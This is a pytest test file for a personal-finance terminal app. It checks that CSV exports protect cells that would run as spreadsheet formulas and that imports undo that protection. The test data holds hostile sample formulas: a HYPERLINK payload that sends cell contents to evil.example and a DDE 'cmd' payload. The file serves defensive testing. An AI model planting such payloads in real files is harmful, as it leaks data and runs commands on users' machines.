"""CSV injection: export puts a ``'`` before text cells a spreadsheet would run as a
formula (``= + - @`` TAB CR, and ``'`` itself so the rule can be undone), import removes
exactly that ``'``; ``raw`` turns both off. Amounts and dates are never touched."""

from __future__ import annotations

import csv
import io
import itertools
import re
from decimal import Decimal
from pathlib import Path

import pytest
from conftest import PASSWORD
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from finance_tui.domain.csv_options import COLUMNS, ImportOptions
from finance_tui.domain.filters import RecordFilter
from finance_tui.domain.values import text_problem
from finance_tui.errors import ValidationError
from finance_tui.models import AuditEvent, Category, Record
from finance_tui.services.csv_import import unprotect

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
TEXT_COLUMNS = ("category", "notes", "created_by")
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def exported(session, raw: bool = False, flt: RecordFilter | None = None) -> str:
    out = io.StringIO()
    session.csv.export(flt or RecordFilter(), out, raw=raw)
    return out.getvalue()


def by_id(text: str) -> dict[str, dict[str, str]]:
    return {row["id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}


def record(session, notes: str, category: str | int = "food", amount: str = "12.50"):
    return session.records.create(
        {
            "kind": "expense",
            "amount": amount,
            "category": category,
            "date": "2026-03-04",
            "notes": notes,
        }
    )


def line_of(text: str, record_id: str) -> str:
    """The file's line for one record (none of these test notes hold a line break
    except the CR case, which is read back separately)."""
    return next(line for line in text.split("\n") if line.startswith(record_id))


@pytest.mark.parametrize(
    ("notes", "cell"),
    [
        (HYPERLINK, '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"'),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("'quoted already", "''quoted already"),
        ("=1,2", '"\'=1,2"'),  # protected inside the CSV quotes
        ("a=1+2", "a=1+2"),  # only the first character counts
        ("plain", "plain"),
    ],
)
def test_hostile_notes_are_written_with_a_leading_quote(admin, notes, cell):
    created = record(admin, notes)
    text = exported(admin)
    row = by_id(text)[str(created.id)]
    prefix = f"{created.id},2026-03-04,expense,12.50,food,{cell},root,"
    assert line_of(text, str(created.id)) == prefix + row["created_at"]
    assert unprotect(row["notes"]) == notes


def test_tab_and_cr_at_the_start_are_protected(admin):
    """The record form strips notes, but older or imported data may begin with TAB/CR."""
    tab, cr = record(admin, "tab"), record(admin, "cr")
    Record.update(notes="\t=1+1").where(Record.id == tab.id).execute()
    Record.update(notes="\r=1+1").where(Record.id == cr.id).execute()
    text = exported(admin)
    assert ",food,'\t=1+1,root," in line_of(text, str(tab.id))
    assert ',food,"\'\r=1+1",root,' in text  # a CR needs CSV quotes as well
    rows = by_id(text)
    assert rows[str(tab.id)]["notes"] == "'\t=1+1"
    assert rows[str(cr.id)]["notes"] == "'\r=1+1"


@pytest.mark.parametrize("name", ["=cmd|' /C calc'!A0", "-5 rebate", "+fees", "@home", "'90s"])
def test_hostile_category_names_are_protected(admin, name):
    category = admin.categories.create(name, "both")
    created = record(admin, "x", category=category.id)
    row = by_id(exported(admin))[str(created.id)]
    assert row["category"] == "'" + name
    assert by_id(exported(admin, raw=True))[str(created.id)]["category"] == name


def test_a_username_beginning_with_a_dash_is_protected(make_user):
    dasher = make_user("admin", name="-ops")
    created = record(dasher, "x")
    assert by_id(exported(dasher))[str(created.id)]["created_by"] == "'-ops"
    assert by_id(exported(dasher, raw=True))[str(created.id)]["created_by"] == "-ops"


def test_amounts_and_dates_stay_plain_numbers(admin):
    """Expenses are written as positive amounts with kind=expense: no cell of the amount
    or date column carries a quote or a sign, whatever the text columns hold."""
    for i, notes in enumerate([HYPERLINK, "-1", "@x", "'y"]):
        record(admin, notes, amount=f"{i + 1}000.0{i}")
    admin.records.create(
        {"kind": "income", "amount": "0.01", "category": "salary", "date": "2024-02-29"}
    )
    rows = list(csv.DictReader(io.StringIO(exported(admin), newline="")))
    assert sorted(r["amount"] for r in rows) == ["0.01", "1000.00", "2000.01", "3000.02", "4000.03"]
    assert all(re.fullmatch(r"\d{4}-\d{2}-\d{2}", r["date"]) for r in rows)
    assert {r["kind"] for r in rows} == {"expense", "income"}


def test_raw_export_writes_text_unchanged(admin):
    """``raw`` is the unprotected output: the same file except for the protected cells."""
    hostile = [record(admin, notes) for notes in (HYPERLINK, "-2", "'q", "plain")]
    protected, raw = exported(admin), exported(admin, raw=True)
    first = hostile[0]
    created_at = by_id(raw)[str(first.id)]["created_at"]
    assert line_of(raw, str(first.id)) == (
        f'{first.id},2026-03-04,expense,12.50,food,"=HYPERLINK(""http://evil.example/?""'
        f'&A1,""click"")",root,{created_at}'
    )
    text_at = {COLUMNS.index(c) for c in TEXT_COLUMNS}
    safe_rows = list(csv.reader(io.StringIO(protected, newline="")))
    raw_rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert raw_rows == [
        [unprotect(cell) if i in text_at else cell for i, cell in enumerate(row)]
        for row in safe_rows
    ]
    assert [r[COLUMNS.index("notes")] for r in raw_rows[1:]].count("'q") == 1
    assert raw != protected


def test_the_export_audit_event_says_whether_it_was_raw(admin):
    admin.csv.export(RecordFilter(), io.StringIO(), raw=True)
    admin.csv.export(RecordFilter(), io.StringIO())
    events = AuditEvent.select().where(AuditEvent.action == "csv_export").order_by(AuditEvent.id)
    assert ['"raw": true' in e.after for e in events] == [True, False]


@pytest.mark.parametrize(
    ("cell", "value"),
    [
        ("'=1+1", "=1+1"),
        ("''tis", "'tis"),
        ("'-", "-"),
        ("'", "'"),
        ("'80s music", "'80s music"),  # not the export's quote: kept
        ("' =spaced", "' =spaced"),
        ("'\t=x", "=x"),  # notes are stored stripped
        ("plain", "plain"),
        ("", ""),
    ],
)
def test_unprotect_removes_only_the_quote_export_adds(cell, value):
    assert unprotect(cell) == value


def _import(session, tmp_path: Path, text: str, raw: bool = False):
    path = tmp_path / "in.csv"
    path.write_text(text, encoding="utf-8", newline="")
    options = ImportOptions(delimiter=",", create_categories=True, raw=raw)
    return session.csv.import_file(path, options)


def test_import_removes_the_quote_from_notes_and_categories_but_not_amounts(admin, tmp_path):
    text = (
        "date,amount,category,notes\n"
        "2026-01-01,-12.50,'@home,'-x\n"
        "2026-01-02,-3.00,food,'80s\n"
        "2026-01-03,-4.00,food,''q\n"
    )
    assert _import(admin, tmp_path, text).imported == 3
    rows = {
        r.date.isoformat(): (r.kind, r.amount, r.category.name, r.notes)
        for r in Record.select().join(Category)
    }
    assert rows == {
        "2026-01-01": ("expense", 1250, "@home", "-x"),
        "2026-01-02": ("expense", 300, "food", "'80s"),
        "2026-01-03": ("expense", 400, "food", "'q"),
    }


def test_raw_import_keeps_the_quote(admin, tmp_path):
    text = "date,kind,amount,category,notes\n2026-01-01,expense,1,'@home,'-x\n"
    assert _import(admin, tmp_path, text, raw=True).imported == 1
    stored = Record.select().join(Category).get()
    assert (stored.category.name, stored.notes) == ("'@home", "'-x")


def test_cli_flags_are_in_help_and_work(run_cli, capsys, admin, db_url, tmp_path):
    for command in ("export", "import"):
        with pytest.raises(SystemExit) as done:
            run_cli([command, "--help"])
        out = capsys.readouterr().out
        assert done.value.code == 0 and "--raw" in out and "unchanged" in out
    created = record(admin, "=2+2")
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    for args, path in (([], safe), (["--raw"], raw)):
        code, _, err = run_cli(
            ["export", str(path), *args, "--user", "root", "--db", db_url], PASSWORD + "\n"
        )
        assert (code, err) == (0, "")
    assert by_id(safe.read_text(encoding="utf-8"))[str(created.id)]["notes"] == "'=2+2"
    assert by_id(raw.read_text(encoding="utf-8"))[str(created.id)]["notes"] == "=2+2"
    cells = tmp_path / "cells.csv"
    cells.write_text("date,kind,amount,category,notes\n2026-01-01,income,5,salary,'=x\n")
    code, out, err = run_cli(
        ["import", str(cells), "--raw", "--user", "root", "--db", db_url], PASSWORD + "\n"
    )
    assert (code, err) == (0, ""), out
    assert Record.get(Record.amount == 500).notes == "'=x"


# What the rules let people store: no control or format character but tab and newline
# (legacy text beyond that is covered by test_csv_export's read-back property).
VALID_TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc", "Cf")) | st.sampled_from("\t\n"),
    max_size=30,
)
HOSTILE_START = st.sampled_from(["", "=", "+", "-", "@", "'", "''", "'=", "\t", "\r", " "])
_amounts = itertools.count(1)


def _category(session, name: str) -> tuple[int, str]:
    """A category called ``name`` as the service stores it (or ``food`` when the
    service refuses the name, e.g. digits only)."""
    try:
        created = session.categories.create(name, "both")
        return created.id, created.name
    except ValidationError:
        existing = Category.get_or_none(Category.name_lower == " ".join(name.split()).lower())
        if existing is not None:
            return existing.id, existing.name
        return Category.get(Category.name_lower == "food").id, "food"


def _reimport(session, tmp_path: Path, row: dict[str, str], raw: bool) -> Record:
    """Import one exported row (its cells as written, id left out so it is new) with the
    real importer, and return the record it created."""
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\n")
    fields = ["date", "kind", "amount", "category", "notes"]
    writer.writerow(fields)
    writer.writerow([row[f] for f in fields])
    report = _import(session, tmp_path, out.getvalue(), raw=raw)
    assert report.imported == 1, report.lines()
    return (
        Record.select()
        .where(
            Record.import_fingerprint.is_null(False),
            Record.amount == int(Decimal(row["amount"]) * 100),
        )
        .order_by(Record.created_at.desc())
        .get()
    )


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    notes=st.tuples(HOSTILE_START, VALID_TEXT)
    .map("".join)
    .filter(lambda t: text_problem(t, multiline=True) is None),
    name=st.tuples(HOSTILE_START, VALID_TEXT)
    .map("".join)
    .filter(lambda t: text_problem(" ".join(t.split())) is None),
)
def test_any_text_survives_export_then_import(admin, tmp_path, notes, name):
    """For any storable notes and category name: no exported text cell starts like a
    formula, the importer turns each cell back into exactly the stored text, and a raw
    export read back raw is exact too."""
    category_id, category_name = _category(admin, name)
    amount = next(_amounts) * 1000
    created = admin.records.create(
        {
            "kind": "expense",
            "amount": str(amount),
            "category": category_id,
            "date": "2026-05-06",
            "notes": notes,
        }
    )
    for raw in (False, True):
        text = exported(admin, raw=raw)
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert {len(r) for r in rows} == {len(COLUMNS)}
        if not raw:
            for r in rows[1:]:
                for column in TEXT_COLUMNS:
                    assert not r[COLUMNS.index(column)].startswith(TRIGGERS)
        row = by_id(text)[str(created.id)]
        copy = _reimport(admin, tmp_path, row, raw)
        assert (copy.notes, copy.category.name) == (created.notes, category_name)
        copy.delete_instance()


# ---- the TUI: export dialog and Import screen ----------------------------------------
async def test_export_dialog_protects_unless_raw_is_ticked(admin, tmp_path, monkeypatch):
    from test_tui_support import SIZE, make_app, settle
    from textual.widgets import Checkbox, Input

    from screens.import_export import ExportModal

    created = record(admin, "=1+1")
    monkeypatch.chdir(tmp_path)
    app = make_app(tmp_path, admin)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        for name, tick in (("safe.csv", False), ("raw.csv", True)):
            app.push_screen(ExportModal(admin, RecordFilter(), default_path=name))
            await settle(pilot)
            box = app.screen.query_one("#export-raw", Checkbox)
            assert box.value is False and "spreadsheet protection" in str(box.label)
            box.value = tick
            assert app.screen.query_one("#export-file", Input).value == name
            await pilot.click("#export-start")
            await settle(pilot)
            assert not isinstance(app.screen, ExportModal)
    safe = by_id((tmp_path / "safe.csv").read_text(encoding="utf-8"))
    raw = by_id((tmp_path / "raw.csv").read_text(encoding="utf-8"))
    assert (safe[str(created.id)]["notes"], raw[str(created.id)]["notes"]) == ("'=1+1", "=1+1")


async def test_import_screen_raw_checkbox(admin, tmp_path):
    from test_tui_support import SIZE, make_app, settle
    from textual.widgets import Checkbox, Input

    from screens.import_export import ImportScreen

    app = make_app(tmp_path, admin)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        for day, tick in (("2026-01-01", False), ("2026-01-02", True)):
            path = tmp_path / f"{day}.csv"
            path.write_text(f"date,kind,amount,category,notes\n{day},expense,1,food,'=x\n")
            screen = ImportScreen(admin)
            app.push_screen(screen)
            await settle(pilot)
            assert screen.query_one("#import-raw", Checkbox).value is False
            screen.query_one("#import-raw", Checkbox).value = tick
            screen.query_one("#import-file", Input).value = str(path)
            await pilot.press("ctrl+s")
            await settle(pilot)
            assert screen.outcome == "imported", screen.summary_text
            app.pop_screen()
            await settle(pilot)
    notes = {r.date.isoformat(): r.notes for r in Record.select()}
    assert notes == {"2026-01-01": "=x", "2026-01-02": "'=x"}


def test_every_protected_first_character_sorts_before_letters():
    """The export's quick pre-test (``text < 'A'`` in code-point order) must let every
    character that needs the ``'`` through to the exact test."""
    from finance_tui.services.csv_export import BEFORE_LETTERS, FORMULA_STARTS, PROTECT

    assert all(start < BEFORE_LETTERS for start in (*FORMULA_STARTS, PROTECT))
    assert set(FORMULA_STARTS) == set(TRIGGERS)
